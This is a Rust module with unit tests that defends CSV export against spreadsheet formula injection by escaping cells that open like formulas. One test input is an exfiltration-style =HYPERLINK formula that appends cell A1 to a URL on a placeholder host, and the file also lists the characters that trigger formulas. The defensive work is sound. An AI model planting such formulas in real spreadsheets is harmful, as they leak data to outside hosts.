//! CSV cells a spreadsheet reads as text. A cell that opens like a formula (`=`, `+`, `-`,
//! `@`, a tab or a carriage return, as OWASP lists them, and their full-width forms) is
//! written with an apostrophe in front, so `=HYPERLINK(...)` in a claim stays words when an
//! editor opens the sheet. Reading claimtrail's own CSV takes the apostrophe off again, and a
//! cell that really begins with an apostrophe before one of those gets a second one, so the
//! round trip gives back exactly what was written.

use std::borrow::Cow;

const GUARD: char = '\'';

/// Whether a spreadsheet would take a cell opening with `c` for a formula.
fn opens_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠'
    )
}

/// Whether an apostrophe followed by `after_guard` is claimtrail's guard.
fn guarded(after_guard: &str) -> bool {
    after_guard
        .chars()
        .next()
        .is_some_and(|c| opens_formula(c) || c == GUARD)
}

/// The cell as written to a CSV file: guarded when a spreadsheet would read it as a formula.
pub fn to_sheet(cell: &str) -> Cow<'_, str> {
    let needs_guard = match cell.strip_prefix(GUARD) {
        Some(rest) => guarded(rest),
        None => cell.starts_with(opens_formula),
    };
    if needs_guard {
        Cow::Owned(format!("{GUARD}{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before `to_sheet`.
pub fn from_sheet(cell: &str) -> &str {
    match cell.strip_prefix(GUARD) {
        Some(rest) if guarded(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_guarded_and_plain_text_is_not() {
        for formula in [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"details\")",
            "+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\tx",
            "\rx",
            "＝1+1",
        ] {
            assert_eq!(to_sheet(formula), format!("'{formula}"));
        }
        for text in ["Adnani", "", "'Tis the season", "1-0 win", "a=b"] {
            assert_eq!(to_sheet(text), text);
        }
    }

    #[test]
    fn every_cell_reads_back_as_it_was() {
        for cell in [
            "=1+1", "'=1+1", "''=1+1", "'", "''", "'Tis", "-", "'-", "x", "", "＠", "'＠",
        ] {
            assert_eq!(from_sheet(&to_sheet(cell)), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_reporters_own_apostrophe_is_kept() {
        assert_eq!(from_sheet("'Tis the season"), "'Tis the season");
        assert_eq!(from_sheet("'"), "'");
    }
}
